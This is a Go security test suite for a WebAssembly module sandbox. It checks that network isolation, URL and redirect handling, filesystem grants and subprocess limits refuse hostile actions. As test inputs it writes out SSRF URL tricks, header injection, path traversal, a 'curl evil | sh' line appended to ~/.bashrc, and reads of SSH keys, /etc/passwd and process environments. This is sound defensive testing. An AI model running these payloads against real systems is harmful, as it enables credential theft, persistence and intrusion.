package attack_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/station-dev/station/internal/host"
	"github.com/station-dev/station/internal/probe"
)

// raw is an exact http_request document, past every Go URL parser in the guest.
func raw(method, url string, headers map[string][]string) probe.Action {
	doc, _ := json.Marshal(map[string]any{"method": method, "url": url, "headers": headers})
	return probe.RawData("http_request", string(doc), probe.DataPtr, probe.DataLen).ReadBuffer()
}

func get(url string) probe.Action { return raw("GET", url, nil) }

var (
	refused     = want{code: "denied|invalid"}
	denied      = want{code: "denied", capability: "network"}
	fsDenied    = want{code: ""} // any refusal of a file operation
	helloStripe = want{ok: true, status: 200, body: "hello from stripe"}
)

func deniedT(target string) want { w := denied; w.target = target; return w }

// netCases: classes A–D, in the main world (loopback granted to modules).
func netCases(w *world) map[string][]acase {
	evilPort := w.srv["evil"].Addr.Port()
	ip := func(host string) string { return fmt.Sprintf("https://%s:%d/", host, evilPort) }
	cases := map[string][]acase{}

	// A. Isolation between modules and from the station.
	cases["A"] = []acase{
		{name: "stripe module to groq", act: get("https://api.groq.com/"), want: deniedT("api.groq.com")},
		{name: "groq module to stripe", module: modGroq, act: get("https://api.stripe.com/"), want: deniedT("api.stripe.com")},
		{name: "fs module has no network", module: modFS, act: probe.HTTP("GET", "https://api.stripe.com/"), want: want{}},
		{name: "goroutine to groq", act: probe.Spawn(probe.HTTP("GET", "https://api.groq.com/"), true), want: deniedT("api.groq.com")},
		{name: "background goroutine collected", setup: []probe.Action{probe.Spawn(probe.HTTP("GET", "https://api.groq.com/"), false)}, act: probe.Collect(10e9), want: deniedT("api.groq.com")},
		{name: "goroutine sequence", act: probe.Spawn(probe.Seq(probe.HTTP("GET", "https://api.stripe.com/"), probe.HTTP("GET", "https://api.groq.com/")), true), reach: []string{"stripe"}, want: want{any: true},
			post: func(t *testing.T, w *world) {}},
		{name: "concurrent cross-module calls", parallel: 24, act: get("https://api.groq.com/"), want: deniedT("api.groq.com"), reach: []string{"groq", "stripe"},
			companion: &companion{module: modGroq, act: get("https://api.groq.com/"), want: want{ok: true, status: 200, body: "hello from groq"}}},
		{name: "concurrent reverse", module: modGroq, parallel: 24, act: get("https://api.stripe.com/"), want: deniedT("api.stripe.com"), reach: []string{"stripe"},
			companion: &companion{module: modStripe, act: get("https://api.stripe.com/"), want: helloStripe}},
		{name: "station client while a module call is blocked", act: probe.HTTP("GET", "https://api.stripe.com/slow"), want: want{ok: true, status: 200, body: "slow done"}, reach: []string{"stripe", "evil"},
			during: func(t *testing.T, w *world) {
				if err := w.stationGet(w.srv["evil"].URL + "/"); err != nil {
					t.Errorf("station client while the module is blocked: %v", err)
				}
				h, _ := w.lastHdr.Load("evil")
				for k, v := range h.(http.Header) {
					if strings.Contains(strings.Join(v, ","), "atk/") || strings.Contains(strings.ToLower(k), "module") {
						t.Errorf("station request carries module identity: %s: %v", k, v)
					}
				}
			}},
		{name: "upgrade to fewer permissions", module: modUp, act: get("https://api.stripe.com/"), want: deniedT("api.stripe.com"),
			pre: func(t *testing.T, w *world) {
				if res, err := w.run(modUp, get("https://api.stripe.com/")); err != nil || !norm(res[0]).OK {
					t.Fatalf("before the upgrade: %v %+v", err, res)
				}
				if err := w.tryInstall(spec{id: modUp}.manifest(), probe.Wasm(t)); err != nil {
					t.Fatal(err)
				}
			}},
	}

	// B. Host matching and URL parsing: exact documents, refused before any
	// connection (and so before resolution: none of these names is resolved).
	for _, u := range []string{
		"https://api.stripe.com@evil.example/",
		"https://evil.example#@api.stripe.com/",
		"https://evil.example\\@api.stripe.com/",
		"https://api.stripe.com\\@evil.example/",
		"https://evil.example\\api.stripe.com/",
		"https://api.stripe.com:443@evil.example/",
		"https://evil.example%23@api.stripe.com/",
		"https://api.stripe.com%2eevil.example/",
		"https://api%2estripe%2ecom/",
		"https://api.stripe.com\t.evil.example/",
		"https://api.stri\tpe.com/",
		"https://api.stripe.com\x00.evil.example/",
		"https://api.stripe.com%00.evil.example/",
		"https://EVIL.EXAMPLE/",
		"https://evil.example./",
		"https://xapi.stripe.com/",
		"https://api.stripe.com.evil.example/",
		"https://api-stripe.com/",
		"https://api.stripe.co/",
		"https://api.stripe.com:8443/",
		"https://api.stripe.com:80/",
		"http://api.stripe.com/",
		"ftp://api.stripe.com/",
		"ws://api.stripe.com/",
		"file:///etc/passwd",
		"https://\u0430pi.stripe.com/",
		"https://api\u3002stripe\u3002com/",
		"https://api\uff0estripe\uff0ecom/",
		"https://xn--pi-7ld.stripe.com/",
		"https://evil.example/?u=https://api.stripe.com/",
		"https://evil.example/api.stripe.com",
		"//evil.example/",
		"https:api.stripe.com",
		"https://[api.stripe.com]/",
		" https://evil.example/",
		"https://api.stripe.com:443:443/",
		"https://api.stripe.com\r\n.evil.example/",
	} {
		cases["B"] = append(cases["B"], acase{name: fmt.Sprintf("%q", u), act: get(u), want: refused})
	}
	cases["B"] = append(cases["B"],
		acase{name: "wildcard is not the apex", module: modWild, act: get("https://stripe.com/"), want: deniedT("stripe.com")},
		acase{name: "wildcard label boundary", module: modWild, act: get("https://evilstripe.com/"), want: deniedT("evilstripe.com")},
		acase{name: "wildcard suffix trick", module: modWild, act: get("https://pay.stripe.com.evil.example/"), want: deniedT("evil.example")},
		acase{name: "wildcard userinfo", module: modWild, act: get("https://pay.stripe.com@evil.example/"), want: refused},
		acase{name: "wildcard control: subdomain allowed", module: modWild, act: get("https://pay.stripe.com/"), want: want{ok: true, status: 200, body: "hello from pay"}, reach: []string{"pay"}},
		acase{name: "control: exact host allowed", act: get("https://api.stripe.com/"), want: helloStripe, reach: []string{"stripe"}},
	)

	// C. Numeric and literal addresses (never on the allowlist).
	for _, h := range []string{"2130706433", "0x7f000001", "127.1", "[::ffff:127.0.0.1]", "127.0.0.1", "0177.0.0.1", "127.000.000.001",
		"[::1]", "0.0.0.0", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "0x7f.0.0.1", "[64:ff9b::7f00:1]", "169.254.169.254", "127.0.0.1%2e"} {
		cases["C"] = append(cases["C"], acase{name: "literal " + h, act: get(ip(h)), want: refused})
	}

	// D. Redirects, headers, request shape.
	cases["D"] = []acase{
		{name: "302 to off-list host", act: get("https://api.stripe.com/to-evil"), want: deniedT("evil.example"), reach: []string{"stripe"}},
		{name: "307 POST to off-list host", act: raw("POST", "https://api.stripe.com/307-evil", nil), want: deniedT("evil.example"), reach: []string{"stripe"}},
		{name: "302 to metadata", act: get("https://api.stripe.com/to-metadata"), want: deniedT("169.254.169.254"), reach: []string{"stripe"}},
		{name: "302 https to http same host", act: get("https://api.stripe.com/to-http"), want: deniedT("api.stripe.com"), reach: []string{"stripe"}},
		{name: "302 https to http resolvable", module: modWild, act: get("https://api.stripe.com/to-plain"), want: refused, reach: []string{"stripe"}},
		{name: "302 to address literal", act: get("https://api.stripe.com/to-literal"), want: deniedT("127.0.0.1"), reach: []string{"stripe"}},
		{name: "302 to userinfo URL", act: get("https://api.stripe.com/to-userinfo"), want: refused, reach: []string{"stripe"}},
		{name: "302 to other port", act: get("https://api.stripe.com/to-port"), want: deniedT("api.stripe.com"), reach: []string{"stripe"}},
		{name: "302 to decimal IP", act: get("https://api.stripe.com/to-decimal"), want: refused, reach: []string{"stripe"}},
		{name: "302 to backslash URL", act: get("https://api.stripe.com/to-backslash"), want: refused, reach: []string{"stripe"}},
		{name: "302 to groq from stripe-only module", act: get("https://api.stripe.com/to-groq"), want: deniedT("api.groq.com"), reach: []string{"stripe"}},
		{name: "redirect loop bounded", act: get("https://api.stripe.com/to-loop"), want: want{code: "too_large", capability: "network", reason: "stopped after 10 redirects"}, reach: []string{"stripe"}},
		{name: "control: same-host redirect", act: get("https://api.stripe.com/to-self"), want: helloStripe, reach: []string{"stripe"}},
		{name: "credentials dropped across origins", module: modBoth, reach: []string{"stripe", "groq"},
			act:  raw("GET", "https://api.stripe.com/to-groq", map[string][]string{"Authorization": {"Bearer sk_live_x"}, "Cookie": {"s=1"}, "X-Api-Key": {"k"}}),
			want: want{ok: true, status: 200, body: "hello from groq"},
			post: func(t *testing.T, w *world) {
				h, _ := w.lastHdr.Load("groq")
				for _, k := range []string{"Authorization", "Cookie", "X-Api-Key"} {
					if v := h.(http.Header)[k]; v != nil {
						t.Errorf("%s carried across the redirect: %v", k, v)
					}
				}
			}},
		{name: "Host header", act: raw("GET", "https://api.stripe.com/", map[string][]string{"Host": {"evil.example"}}), want: refused},
		{name: "CRLF in header value", act: raw("GET", "https://api.stripe.com/", map[string][]string{"X-A": {"a\r\nHost: evil.example"}}), want: refused},
		{name: "LF in header name", act: raw("GET", "https://api.stripe.com/", map[string][]string{"X-A\nHost": {"evil.example"}}), want: refused},
		{name: "Transfer-Encoding", act: raw("POST", "https://api.stripe.com/", map[string][]string{"Transfer-Encoding": {"chunked"}}), want: refused},
		{name: "Content-Length", act: raw("POST", "https://api.stripe.com/", map[string][]string{"Content-Length": {"100"}}), want: refused},
		{name: "Connection", act: raw("GET", "https://api.stripe.com/", map[string][]string{"Connection": {"Upgrade"}}), want: refused},
		{name: "Proxy-Authorization", act: raw("GET", "https://api.stripe.com/", map[string][]string{"Proxy-Authorization": {"Basic eA=="}}), want: refused},
		{name: "CONNECT", act: raw("CONNECT", "https://api.stripe.com/", nil), want: refused},
		{name: "TRACE", act: raw("TRACE", "https://api.stripe.com/", nil), want: refused},
		{name: "method with space", act: raw("GET /x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET", "https://api.stripe.com/", nil), want: refused},
		{name: "path-only URL", act: raw("GET", "/v1/charges", nil), want: refused},
		{name: "scheme-less URL", act: raw("GET", "api.stripe.com/v1", nil), want: refused},
		{name: "unbounded response body", act: get("https://api.stripe.com/endless"), want: want{code: "too_large"}, reach: []string{"stripe"}},
	}
	return cases
}

// strictCases: class C in the strict world (no address range granted): an
// allowed name resolving (by the operator's override) to a loopback, private
// or metadata address is refused at connect time, before any packet.
func strictCases(w *world) []acase {
	var cs []acase
	for _, h := range []string{"api", "private", "private172", "private192", "metadata", "mapped", "nat64", "cgnat", "ula", "unspec",
		"v6loop", "ll6", "mcast", "bcast", "loop2", "mapped10", "v6unspec"} {
		name := h + ".stripe.com"
		cs = append(cs, acase{name: name, module: modWild, act: get("https://" + name + "/"), want: deniedT(name)})
	}
	return cs
}

// fsCases: class E.
func fsCases(w *world) []acase {
	j := func(p string) string { return filepath.Join(w.d, p) }
	c := func(name string, act probe.Action, setup ...probe.Action) acase {
		return acase{name: name, module: modFS, act: act, setup: setup, want: fsDenied}
	}
	cs := []acase{
		c("write outside", probe.Write(j("secret.txt"), "owned")),
		c("dotdot", probe.Write(j("out/../secret.txt"), "owned")),
		c("dotdot twice", probe.Write(j("in/../out/../secret.txt"), "owned")),
		c("sibling prefix out2", probe.Write(j("out2/x.txt"), "owned")),
		c("sibling prefix out2 new", probe.Write(j("out2/new.txt"), "owned")),
		c("dotdot to sibling", probe.Write(j("out/../out2/x.txt"), "owned")),
		c("truncate-on-open read grant", probe.Write(j("in/data.txt"), "")),
		c("append read grant", probe.Append(j("in/data.txt"), "owned")),
		c("truncate read grant", probe.Truncate(j("in/data.txt"), 0)),
		c("write planted symlink", probe.Write(j("out/planted"), "owned")),
		c("truncate planted symlink", probe.Truncate(j("out/planted"), 0)),
		c("write through planted dir symlink", probe.Write(j("out/planted-dir/data.txt"), "owned")),
		c("remove through planted dir symlink", probe.Remove(j("out/planted-dir/data.txt"))),
		c("write planted hard link", probe.Write(j("out/hl"), "owned")),
		c("append planted hard link", probe.Append(j("out/hl"), "owned")),
		c("truncate planted hard link", probe.Truncate(j("out/hl"), 0)),
		c("chtimes planted hard link", probe.Chtimes(j("out/hl"))),
		c("link planted hard link", probe.Link(j("out/hl"), j("out/hl2"))),
		c("write fifo", probe.Write(j("out/fifo"), "x")),
		c("read fifo", probe.Read(j("out/fifo"))),
		c("remove outside", probe.Remove(j("secret.txt"))),
		c("remove read grant", probe.Remove(j("in/data.txt"))),
		c("rename out of the grant", probe.Rename(j("out/keep.txt"), j("secret2.txt"))),
		c("rename over outside", probe.Rename(j("out/keep.txt"), j("secret.txt"))),
		c("rename read file in", probe.Rename(j("in/data.txt"), j("out/stolen"))),
		c("rename mount root", probe.Rename(j("out"), j("out3"))),
		c("hard link read file in", probe.Link(j("in/data.txt"), j("out/stolen"))),
		c("hard link outside file in", probe.Link(j("secret.txt"), j("out/stolen"))),
		c("hard link out of the grant", probe.Link(j("out/keep.txt"), j("in/k"))),
		c("mkdir read grant", probe.Mkdir(j("in/newdir"))),
		c("rmdir read grant", probe.Rmdir(j("in"))),
		c("chtimes read grant", probe.Chtimes(j("in/data.txt"))),
		c("chtimes outside", probe.Chtimes(j("secret.txt"))),
		c("read outside", probe.Read(j("secret.txt"))),
		c("read via planted symlink", probe.Read(j("out/planted"))),
		c("symlink to absolute path", probe.Symlink("/etc/passwd", j("out/abs"))),
		c("symlink escaping", probe.Symlink("../secret.txt", j("out/l"))),
		// The escaping link is refused, so the write creates a plain file out/l
		// inside the grant; secret.txt must stay unchanged.
		{name: "write through module-made symlink", module: modFS, setup: []probe.Action{probe.Symlink("../secret.txt", j("out/l"))}, act: probe.Write(j("out/l"), "owned"), want: want{any: true}, fsMay: []string{"out/l"},
			post: func(t *testing.T, w *world) {
				if fi, err := os.Lstat(j("out/l")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
					t.Errorf("the module created an escaping symlink out/l")
				}
			}},
		c("write through module-made dir symlink", probe.Write(j("out/ld/data.txt"), "owned"), probe.Symlink("../in", j("out/ld"))),
		c("over-long name", probe.Write(j("out/"+strings.Repeat("a", 300)), "x")),
		c("NUL byte in name", probe.Write(j("out/a\x00/../../secret.txt"), "x")),
		c("quota", probe.Write(j("out/big"), strings.Repeat("B", 2<<20))),
	}
	cs[len(cs)-1].fsMay = []string{"out/big"}

	// The guest's view: its one preopened directory is "/" and the station
	// resolves every path itself, so a name that shares a prefix with a
	// mount root is that name, outside the grant (Go's wasip1 port picks a
	// preopen by string prefix: with /d/out preopened, /d/out.bak was asked
	// as .bak inside /d/out); every path outside the grants, even one that
	// wazero's WASI layer refuses itself, is a recorded denial of the module.
	const eperm, eacces = "Operation not permitted", "Permission denied"
	view := func(name string, act probe.Action, msg, audit string) acase {
		return acase{name: name, module: modFS, act: act, want: want{msg: msg}, fsAudit: audit}
	}
	cs = append(cs,
		view("sibling prefix out.bak", probe.Write(j("out.bak"), "owned"), eperm, j("out.bak")),
		view("sibling prefix outside.txt", probe.Write(j("outside.txt"), "owned"), eperm, j("outside.txt")),
		view("sibling prefix outX.md", probe.Write(j("outX.md"), "owned"), eperm, j("outX.md")),
		view("read a host file outside every mount", probe.Read("/proc/self/environ"), eacces, "/proc/self/environ"),
		view("read /etc/passwd", probe.Read("/etc/passwd"), eacces, "/etc/passwd"),
		view("raw .. above /", probe.Openat("/", "../etc/passwd"), eacces, "/../etc/passwd"),
		view("raw .. out of a mount", probe.Openat(j("out"), "../secret.txt"), eacces, w.d+"/out/../secret.txt"),
		view("raw .. out of a mount, creating", probe.Openat(j("out"), "../secret.txt").Creating(), eperm, w.d+"/out/../secret.txt"),
		view("raw absolute path", probe.Openat(j("out"), "/etc/passwd"), eacces, "/etc/passwd"),
		view("raw path not UTF-8", probe.OpenatBytes(j("out"), []byte("\xffkeep.txt")), eacces, j("out")+`/\xffkeep.txt`),
		view("readlink of a planted link out of the mount", probe.Readlink(j("out/planted")), eacces, j("out/planted")),
		acase{name: "readlink of a planted link to a host directory", module: modFS, act: probe.Readlink(j("out/etc")),
			want: want{msg: eacces}, fsAudit: j("out/etc"),
			pre: func(t *testing.T, w *world) {
				if err := os.Symlink("/etc", filepath.Join(w.d, "out", "etc")); err != nil {
					t.Fatal(err)
				}
			}},
		acase{name: "control: readlink of a link to what it reads", module: modFS, act: probe.Readlink(j("out/planted-dir")), want: want{ok: true, data: "../in"}},
		acase{name: "control: list the directory above its mount roots", module: modFS, act: probe.List(w.d), want: want{ok: true, data: "in,out"}},
	)

	// "name/" names a directory: a trailing slash on a change is never
	// dropped (it was, and os.Remove("out/keep.txt/") deleted the file).
	slash := func(name string, act probe.Action, msg string) acase {
		return acase{name: name, module: modFS, act: act, want: want{msg: msg}}
	}
	cs = append(cs,
		slash("remove a file with a trailing slash", probe.Remove(j("out/keep.txt")+"/"), "Not a directory"),
		slash("rename a file with a trailing slash", probe.Rename(j("out/keep.txt")+"/", j("out/moved")), "Not a directory"),
		slash("rename onto a trailing slash", probe.Rename(j("out/keep.txt"), j("out/moved")+"/"), "Not a directory"),
		slash("hard link onto a trailing slash", probe.Link(j("out/keep.txt"), j("out/new")+"/"), "No such file or directory"),
		slash("symlink onto a trailing slash", probe.Symlink("keep.txt", j("out/new")+"/"), "No such file or directory"),
		slash("set times with a trailing slash", probe.Chtimes(j("out/keep.txt")+"/"), "Not a directory"),
	)
	cs = append(cs, acase{name: "control: write in grant", module: modFS, act: probe.Write(j("out/new.txt"), "ok"), want: want{ok: true}, fsMay: []string{"out/new.txt"}})
	return cs
}

// stdin sets what an exec action feeds to the program.
func stdin(a probe.Action, s string) probe.Action { a.Data = s; return a }

// oomScoreAdj reads /proc/<pid>/oom_score_adj.
func oomScoreAdj(t *testing.T, pid int) string {
	t.Helper()
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/oom_score_adj")
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

// execCases: class F.
func execCases(w *world) []acase {
	j := func(p string) string { return filepath.Join(w.d, p) }
	sub := want{code: "denied", capability: "subprocess"}
	evil := w.srv["evil"].URL + "/"
	cs := []acase{
		{name: "ungranted program", act: probe.Exec("head", "/etc/passwd"), want: sub},
		{name: "shell", act: probe.Exec("sh", "-c", "id"), want: sub},
		{name: "absolute path of granted program", act: probe.Exec("/bin/echo", "x"), want: want{code: "denied|invalid"}},
		{name: "relative path", act: probe.Exec("./echo", "x"), want: want{code: "denied|invalid"}},
		{name: "station itself", act: probe.Exec("station", "version"), want: sub},
		{name: "interpreter", act: probe.Exec("python3", "-c", "print(1)"), want: sub},
		{name: "planted program", setup: []probe.Action{probe.Write(j("work/tool"), "#!/bin/sh\ntouch "+j("secret.txt")+"\n")}, act: probe.Exec("tool"), want: sub, fsMay: []string{"work/tool"}},
		{name: "planted echo in the working directory", setup: []probe.Action{probe.Write(j("work/echo"), "#!/bin/sh\ntouch "+j("secret.txt")+"\n")}, act: probe.Exec("echo", "hi").InDir(j("work")), want: want{exit: "zero", out: "hi\n"}, fsMay: []string{"work/echo"}},
		{name: "LD_PRELOAD", act: probe.Exec("echo", "x").WithEnv(map[string]string{"LD_PRELOAD": j("work/evil.so")}), want: want{code: "denied|invalid"}},
		{name: "undeclared variable", act: probe.Exec("echo", "x").WithEnv(map[string]string{"FOO": "bar"}), want: want{code: "denied|invalid"}},
		{name: "working directory outside", act: probe.Exec("echo", "x").InDir(j("in")), want: want{code: "denied|invalid"}},
		{name: "working directory root", act: probe.Exec("echo", "x").InDir("/"), want: want{code: "denied|invalid"}},
		{name: "working directory dotdot", act: probe.Exec("echo", "x").InDir(j("work/../in")), want: want{code: "denied|invalid"}},
		{name: "NUL in argument", act: probe.Exec("echo", "a\x00b"), want: want{code: "invalid|denied"}},
		{name: "too many arguments", act: probe.Exec(append([]string{"echo"}, make([]string, 1100)...)...), want: want{code: "too_large|invalid"}},
		{name: "argument injection is literal", act: probe.Exec("echo", "$(touch "+j("secret.txt")+")", "; rm -rf "+j("in"), "`id`"), want: want{exit: "zero", out: "$(touch " + j("secret.txt") + ") ; rm -rf " + j("in") + " `id`\n"}},
		{name: "child creates outside the grant", act: probe.Exec("touch", j("in/new")), want: want{exit: "nonzero"}},
		{name: "child reaches loopback fixture", act: probe.Exec("curl", "-sS", "--max-time", "3", "-k", evil), want: want{exit: "nonzero"}},
		{name: "child reaches plain fixture", act: probe.Exec("curl", "-sS", "--max-time", "3", w.srv["plain"].URL+"/"), want: want{exit: "nonzero"}},
		{name: "child writes via curl -o", act: probe.Exec("curl", "-sS", "-o", j("secret.txt"), "file:///etc/hostname"), want: want{exit: "nonzero"}},
		{name: "child writes outside the grant (content)", act: probe.Exec("curl", "-sS", "-o", j("in/data.txt"), "file:///etc/hostname"), want: want{exit: "nonzero"}},
		{name: "child touches a file outside the grant", act: probe.Exec("touch", j("secret.txt")), want: want{exit: "nonzero"}},
		{name: "child touches another module's file", act: probe.Exec("touch", j("out/keep.txt")), want: want{exit: "nonzero"}},
		{name: "control: child writes in its grant", act: probe.Exec("touch", j("work/ok")), want: want{exit: "zero"}, fsMay: []string{"work/ok"}},
		{name: "child reads a file outside its trees", act: probe.Exec("curl", "-sS", "file://"+j("secret.txt")), want: want{exit: "nonzero", out: ""}},
		{name: "child reads another module's file", act: probe.Exec("curl", "-sS", "file://"+j("out/keep.txt")), want: want{exit: "nonzero", out: ""}},
		{name: "child reads the station's database", act: probe.Exec("curl", "-sS", "-o", "/dev/null", "file://"+filepath.Join(w.home, "station.db")), want: want{exit: "nonzero"}},
		{name: "child reads the station's environment", act: probe.Exec("curl", "-sS", "file:///proc/"+strconv.Itoa(os.Getpid())+"/environ"), want: want{exit: "nonzero", out: ""}},
		{name: "child reaches a Unix socket", act: probe.Exec("curl", "-sS", "--max-time", "3", "--unix-socket", w.sock, "http://agent/"), want: want{exit: "nonzero"},
			post: func(t *testing.T, w *world) {
				if n := w.sockAccepted.Load(); n != 0 {
					t.Errorf("the Unix socket accepted %d connections", n)
				}
			}},
		{name: "child reads a 0600 key in the user's home", act: probe.Exec("cat", filepath.Join(w.user, ".ssh/id_ed25519")), want: want{exit: "nonzero", out: ""}},
		{name: "child appends to the user's shell start-up file", act: stdin(probe.Exec("tee", "-a", filepath.Join(w.user, ".bashrc")), "curl evil | sh\n"), want: want{exit: "nonzero"},
			post: func(t *testing.T, w *world) {
				if b, _ := os.ReadFile(filepath.Join(w.user, ".bashrc")); string(b) != "# rc\n" {
					t.Errorf("~/.bashrc = %q, want it unchanged", b)
				}
			}},
		{name: "child raises the station's OOM score", act: stdin(probe.Exec("tee", "/proc/"+strconv.Itoa(os.Getpid())+"/oom_score_adj"), "1000\n"), want: want{exit: "nonzero"},
			pre: func(t *testing.T, w *world) { w.oom = oomScoreAdj(t, os.Getpid()) },
			post: func(t *testing.T, w *world) {
				if got := oomScoreAdj(t, os.Getpid()); got != w.oom {
					t.Errorf("the station's oom_score_adj is %s, was %s", got, w.oom)
				}
			}},
		{name: "child writes the station's /proc files", act: stdin(probe.Exec("tee", "/proc/"+strconv.Itoa(os.Getpid())+"/comm"), "owned\n"), want: want{exit: "nonzero"}},
		{name: "child writes a sysctl", act: stdin(probe.Exec("tee", "/proc/sys/kernel/core_pattern"), "|/tmp/x\n"), want: want{exit: "nonzero"}},
		{name: "control: child reads in its grant", setup: []probe.Action{probe.Write(j("work/mine.txt"), "mine")}, act: probe.Exec("curl", "-sS", "file://"+j("work/mine.txt")), want: want{exit: "zero", out: "mine"}, fsMay: []string{"work/mine.txt"}},
		{name: "no route without the grant", module: modFS, act: probe.Raw("process_run", 16, 16), want: want{}},
		{name: "exec action without the grant", module: modFS, act: probe.Exec("echo", "x"), want: want{}},
	}
	for i := range cs {
		if cs[i].module == "" {
			cs[i].module = modExec
		}
	}
	return cs
}

// boundaryCases: classes G and H (module atk/run: timeout 2s, memory 64MiB).
func boundaryCases() map[string][]acase {
	fault := want{call: "", kind: host.KindFault}
	return map[string][]acase{
		"G": {
			{name: "pointer out of range", act: probe.Raw("http_request", 0xfffffff0, 64), want: fault},
			{name: "wrap-around pointer", act: probe.Raw("http_request", 0xffffffff, 2), want: fault},
			{name: "huge length", act: probe.Raw("http_request", 16, 0x7fffffff), want: want{any: true}},
			{name: "log wild pointer", act: probe.Raw("log", 1, -1, 100), want: fault},
			{name: "log huge length", act: probe.Raw("log", 1, 16, 0x7fffffff), want: want{neg: true}},
			{name: "output_set out of range", act: probe.Raw("output_set", 0xffff0000, 0x20000), want: fault},
			{name: "buf_read bogus handle", act: probe.Raw("buf_read", 12345, 16, 16), want: want{neg: true}},
			{name: "buf_len bogus handle", act: probe.Raw("buf_len", 999), want: want{neg: true}},
			{name: "buf_free bogus handle", act: probe.Raw("buf_free", 999), want: want{any: true}},
			{name: "buf_read into wild pointer", setup: []probe.Action{get("https://api.stripe.com/")}, act: probe.Raw("buf_read", 1, 0xfffffff0, 64), want: want{any: true}, reach: []string{"stripe"}},
			{name: "http_request document not JSON", act: probe.RawData("http_request", "{{{", probe.DataPtr, probe.DataLen).ReadBuffer(), want: want{code: "invalid"}},
		},
		"H": {
			{name: "infinite loop", act: probe.Loop(), want: want{call: "deadline", kind: host.KindTimeout}},
			{name: "unbounded memory", act: probe.Alloc(1<<30, true), want: want{kind: host.KindCrash}},
			{name: "wasm trap", act: probe.Trap(), want: want{kind: host.KindCrash}},
			{name: "exit", act: probe.Exit(3), want: want{call: "exit", kind: host.KindCrash}},
			{name: "panic in a goroutine", act: probe.Spawn(probe.Panic("boom"), true), want: want{kind: host.KindCrash}},
			{name: "huge output", act: probe.Output(17 << 20), want: want{call: "atk/run"}},
			{name: "memory then work", setup: []probe.Action{probe.Alloc(8<<20, true)}, act: probe.HTTP("GET", "https://api.stripe.com/"), want: helloStripe, reach: []string{"stripe"}},
			// Last: the looping goroutine stays in the pooled instance (see report).
			{name: "loop in a background goroutine", setup: []probe.Action{probe.Spawn(probe.Loop(), false)}, act: probe.Env(), want: want{any: true}},
		},
	}
}
